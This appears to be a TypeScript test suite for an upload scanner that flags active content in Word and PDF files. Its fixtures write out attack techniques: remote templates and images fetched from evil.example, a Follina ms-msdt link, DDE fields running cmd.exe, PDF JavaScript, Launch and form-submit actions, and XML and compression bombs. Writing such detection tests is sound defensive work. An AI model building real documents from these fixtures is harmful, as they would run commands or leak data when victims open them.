import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';
import { describe, expect, test } from 'vitest';
import inspectDocument from '../../../src/features/uploads/inspect-document.ts';
import { doc, docx, zip } from './fixtures.ts';

const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const relations = (...all: string[]) =>
  `<?xml version="1.0" encoding="UTF-8"?><Relationships>${all.join('')}</Relationships>`;
const relation = (kind: string, target: string, mode = ' TargetMode="External"') =>
  `<Relationship Id="r1" Type="${REL}/${kind}" Target="${target}"${mode}/>`;
const related = (...all: string[]) => docx({ name: 'word/_rels/document.xml.rels', text: relations(...all) });
const part = (name: string, text: string) => docx({ name, text });
const body = (xml: string) =>
  part('word/header1.xml', `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:hdr ${W}>${xml}</w:hdr>`);
const run = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
const field = (...texts: string[]) =>
  body(`<w:p>${mark('begin')}${texts.map(run).join('')}${mark('separate')}<w:r><w:t>x</w:t></w:r>${mark('end')}</w:p>`);

describe('Word documents that act when they are opened', () => {
  test.each<[string, Buffer]>([
    [
      'a template from elsewhere',
      part('word/_rels/settings.xml.rels', relations(relation('attachedTemplate', 'https://evil.example/x.dotm'))),
    ],
    ['its kind written with an entity', related(relation('attached&#84;emplate', 'https://evil.example/x'))],
    ['a template of this archive', related(relation('attachedTemplate', 'x.xml', ''))],
    ['a picture fetched on opening', related(relation('image', 'https://evil.example/seen.png'))],
    ['a share of a Windows network', related(relation('image', '\\\\evil.example\\share\\a.png'))],
    ['a relation outside, unsaid', related(relation('image', 'https://evil.example/a.png', ''))],
    ['an object linked from elsewhere', related(relation('oleObject', 'https://evil.example/a.xls'))],
    ['a frame', related(relation('frame', 'https://evil.example/'))],
    ['a link that runs a program (Follina)', related(relation('hyperlink', 'ms-msdt:/id PCWDiagnostic'))],
    ['a link to a file', related(relation('hyperlink', 'file://evil.example/a'))],
    ['an embedded page', related(relation('aFChunk', 'page.html', ''))],
    ['an embedded object', part('word/embeddings/oleObject1.bin', 'x')],
    ['an embedded workbook', part('word/embeddings/sheet.xlsx', 'x')],
    ['an ActiveX control', part('word/activeX/activeX1.xml', '<a/>')],
    ['a part of an unknown kind', part('word/media/tool.exe', 'MZ')],
    ['an object in the words', body('<w:object><o:OLEObject Type="Embed"/></w:object>')],
    ['another document in the words', body('<w:altChunk r:id="r1"/>')],
    ['a picture of the older kind, fetched', body('<v:imagedata src="https://evil.example/a.png"/>')],
    ['DDE', field(' DDE "cmd" "/c calc" ')],
    ['DDEAUTO over three runs', field(' DDE', 'AU', 'TO c:\\\\windows\\\\system32\\\\cmd.exe ')],
    ['DDE with entities', field(' &#68;DE cmd ')],
    ['DDE in a simple field', body(`<w:fldSimple w:instr=" DDEAUTO cmd "/>`)],
    ['DDE spelled by QUOTE', field(' QUOTE 68 68 69 ')],
    [
      'a field whose name another computes',
      body(`${mark('begin')}${mark('begin')}${run(' SET a ')}${mark('end')}${run(' DDE x ')}${mark('end')}`),
    ],
    ['a text that is included', field(' INCLUDETEXT "https://evil.example/a" ')],
    ['a picture that is included', field(' INCLUDEPICTURE "https://evil.example/a.png" \\d ')],
    ['a button that runs a macro', field(' MACROBUTTON AutoOpen Click ')],
  ])('%s', async (_what, bytes) => expect(await inspectDocument({ bytes, type: DOCX })).toBe('file-active'));
  test.each<[string, Buffer]>([
    ['a billion laughs', part('word/a.xml', '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;">]><a>&c;</a>')],
    ['an entity from elsewhere', part('word/a.xml', '<!DOCTYPE a SYSTEM "https://evil.example/a.dtd"><a/>')],
    [
      'another encoding, which hides all of it',
      docx({ name: 'word/a.xml', bytes: Buffer.from('\ufeff<!DOCTYPE a><a/>', 'utf16le') }),
    ],
    ['an encoding that is said', part('word/a.xml', '<?xml version="1.0" encoding="UTF-7"?><a/>')],
    ['a part longer than it says', docx({ name: 'word/a.xml', text: '<a/>'.repeat(100), declaredSize: 8 })],
    ['no document', zip([{ name: 'a.xml', text: '<a/>' }])],
  ])('%s is no document', async (_what, bytes) =>
    expect(await inspectDocument({ bytes, type: DOCX })).toBe('file-type'),
  );
});

describe('Word documents as people send them', () => {
  test.each<[string, Buffer]>([
    [
      'links to a site, an address, a telephone',
      related(
        ...['https://ada.example/cv', 'mailto:ada@example.org', 'tel:+33321000000'].map((to) =>
          relation('hyperlink', to),
        ),
      ),
    ],
    [
      'a picture, styles, a theme',
      related(
        relation('image', 'media/image1.png', ''),
        relation('styles', 'styles.xml', ''),
        relation('theme', 'theme/theme1.xml', ''),
      ),
    ],
    [
      'a table of contents and page numbers',
      body(
        `${mark('begin')}${run(' TOC \\o "1-3" \\h ')}${mark('separate')}${mark('begin')}${run(' PAGEREF _Toc1 \\h ')}${mark('end')}${mark('end')}`,
      ),
    ],
    ['a link whose address speaks of LINK and DDE', field(' HYPERLINK "https://ada.example/LINK DDE" ')],
    [
      'a date, a formula',
      body(`<w:fldSimple w:instr=" DATE \\@ &quot;d MMMM yyyy&quot; "/><w:fldSimple w:instr=" =SUM(ABOVE) "/>`),
    ],
    [
      'LibreOffice’s own parts',
      docx(
        { name: 'docProps/app.xml', text: '<?xml version="1.0" encoding="UTF-8"?><Properties/>' },
        { name: 'word/fontTable.xml', text: '<w:fonts/>' },
      ),
    ],
    [
      'folders as entries, an embedded face',
      docx({ name: 'word/fonts/', text: '' }, { name: 'word/fonts/font1.odttf', text: 'x' }),
    ],
    [
      'words about macros and <!-- comments -->',
      body('<!-- DDE --><w:t>I wrote macros, OLE and DDE for ten years</w:t>'),
    ],
  ])('%s', async (_what, bytes) => expect(await inspectDocument({ bytes, type: DOCX })).toBeUndefined());
});

describe('documents of Word 97', () => {
  const type = 'application/msword';
  const saying = (text: string, encoding: 'latin1' | 'utf16le' = 'latin1') =>
    Buffer.concat([doc(), Buffer.alloc(512, Buffer.from(text, encoding), encoding)]);
  test.each<[string, Buffer]>([
    ['an embedded object', doc(['ObjectPool', 1], ['_1234567890', 1])],
    ['what OLE keeps beside one', doc(['\u0001Ole10Native', 2])],
    ['a DDE field', saying('\x13 DDEAUTO c:\\windows\\cmd.exe \x14x\x15')],
    ['a DDE field in two bytes a letter', saying('\x13 DDE cmd \x15', 'utf16le')],
    ['a template from elsewhere', saying('https://evil.example/x.dotm ', 'utf16le')],
  ])('%s', async (_what, bytes) => expect(await inspectDocument({ bytes, type })).toBe('file-active'));
  test('one that is encrypted cannot be looked into', async () => {
    const word = Buffer.alloc(512);
    word.writeUInt16LE(0xa5ec, 0);
    word.writeUInt16LE(0x0100, 10);
    expect(await inspectDocument({ bytes: Buffer.concat([doc(), word]), type })).toBe('file-protected');
  });
  test('a link and a page number pass', async () =>
    expect(
      await inspectDocument({
        bytes: saying('\x13 HYPERLINK "https://ada.example" \x14ada\x15 \x13 PAGE \x15 '),
        type,
      }),
    ).toBeUndefined());
});

/** A PDF written by hand around these objects, the first of them its catalog. */
const pdf = (...objects: string[]) =>
  Buffer.from(
    `%PDF-1.7\n${objects.map((text, i) => `${i + 1} 0 obj\n${text}\nendobj\n`).join('')}trailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n`,
    'latin1',
  );
const catalog = (more: string) => `<</Type/Catalog/Pages 2 0 R ${more}>>`;
const PAGES = '<</Type/Pages/Kids[]/Count 0>>';
async function packed(change: (document: PDFDocument) => void | Promise<void>): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.addPage([200, 200]);
  await change(document);
  return Buffer.from(await document.save({ useObjectStreams: true }));
}

describe('PDF that act when they are opened', () => {
  const type = 'application/pdf';
  test.each<[string, Buffer | (() => Promise<Buffer>)]>([
    ['JavaScript', pdf(catalog('/OpenAction<</S/JavaScript/JS(app.alert(1))>>'), PAGES)],
    ['JavaScript with escapes', pdf(catalog('/OpenAction<</S/J#61vaScript/J#53(x)>>'), PAGES)],
    ['escapes in small letters', pdf(catalog('/OpenAction<</S/J#61va#53cript/#4a#53 (x)>>'), PAGES)],
    ['JavaScript in an object stream', () => packed((one) => one.addJavaScript('a', 'app.alert(1)'))],
    [
      'in an object stream, under no long name',
      () => packed((one) => void one.catalog.set(PDFName.of('X'), one.context.obj({ JS: PDFString.of('x') }))),
    ],
    ['a program to start', pdf(catalog('/OpenAction 3 0 R'), PAGES, '<</S/Launch/F(cmd.exe)>>')],
    ['an address opened by itself', pdf(catalog('/OpenAction<</S/URI/URI(https://evil.example)>>'), PAGES)],
    ['another file opened', pdf(catalog(''), PAGES, '<</Type/Annot/Subtype/Link/A<</S/GoToR/F(\\\\\\\\evil\\\\a)>>>>')],
    ['a form that is sent', pdf(catalog(''), PAGES, '<</S/SubmitForm/F<</FS/URL/F(https://evil.example)>>>>')],
    ['automatic actions', pdf(catalog('/AA<</WC<</S/GoTo>>>>'), PAGES)],
    ['an XFA form', pdf(catalog('/AcroForm<</XFA 3 0 R>>'), PAGES)],
    ['an embedded program', () => packed((one) => one.attach(Buffer.from('MZ'), 'tool.exe', {}))],
    ['a program that says it is XML', () => packed((one) => one.attach(Buffer.from('MZ'), 'tool.xml', {}))],
    ['rich media', pdf(catalog(''), PAGES, '<</Type/Annot/Subtype/RichMedia>>')],
    ['a film', pdf(catalog(''), PAGES, '<</Type/Annot/Subtype/Movie>>')],
    [
      'a stream that is somewhere else',
      pdf(catalog(''), PAGES, '<</Length 0/F(https://evil.example)>>\nstream\n\nendstream'),
    ],
    [
      'what an older version of the file held',
      Buffer.concat([Buffer.from('%PDF-1.7\n1 0 obj<</S/JavaScript>>endobj\n'), pdf(catalog(''), PAGES).subarray(9)]),
    ],
  ])('%s', async (_what, bytes) =>
    expect(await inspectDocument({ bytes: typeof bytes === 'function' ? await bytes() : bytes, type })).toBe(
      'file-active',
    ),
  );
  test('an encrypted one cannot be looked into', async () => {
    const bytes = await packed((one) => one.encrypt({ userPassword: 'x', ownerPassword: 'y' }));
    expect(await inspectDocument({ bytes, type })).toBe('file-protected');
  });
  test('a bomb of packed objects, and brackets without end', async () => {
    const { deflateSync } = await import('node:zlib');
    const bomb = deflateSync(Buffer.alloc(200_000_000));
    const bytes = Buffer.concat([
      Buffer.from(`%PDF-1.7\n3 0 obj<</Type/Obj#53tm/N 1/First 4/Filter/FlateDecode/Length ${bomb.length}>>\nstream\n`),
      ...[bomb, Buffer.from('\nendstream\nendobj\n'), pdf(catalog(''), PAGES).subarray(9)],
    ]);
    expect(await inspectDocument({ bytes, type })).toBe('file-type');
    expect(await inspectDocument({ bytes: pdf(catalog('/X '.padEnd(300_000, '[')), PAGES), type })).toBe('file-type');
  }, 30_000);

  test.each<[string, Buffer | (() => Promise<Buffer>)]>([
    ['a page of pdf-lib', () => packed(() => undefined)],
    ['a form to fill in', () => packed((one) => void one.getForm().createTextField('name').addToPage(one.getPage(0)))],
    ['opening at the first page, as LibreOffice writes it', pdf(catalog('/OpenAction[2 0 R/XYZ null null 0]'), PAGES)],
    ['opening at a page by an action', pdf(catalog('/OpenAction<</S/GoTo/D[2 0 R/Fit]>>'), PAGES)],
    ['a link to follow', pdf(catalog(''), PAGES, '<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://ada.example)>>>>')],
    ['words about JavaScript', pdf(catalog('/Title(I write JavaScript)'), PAGES)],
    [
      'the data of an invoice',
      () =>
        packed((one) =>
          one.attach(Buffer.from('<?xml version="1.0"?><Invoice/>'), 'factur-x.xml', { mimeType: 'text/xml' }),
        ),
    ],
  ])('harmless: %s', async (_what, bytes) =>
    expect(await inspectDocument({ bytes: typeof bytes === 'function' ? await bytes() : bytes, type })).toBeUndefined(),
  );
});
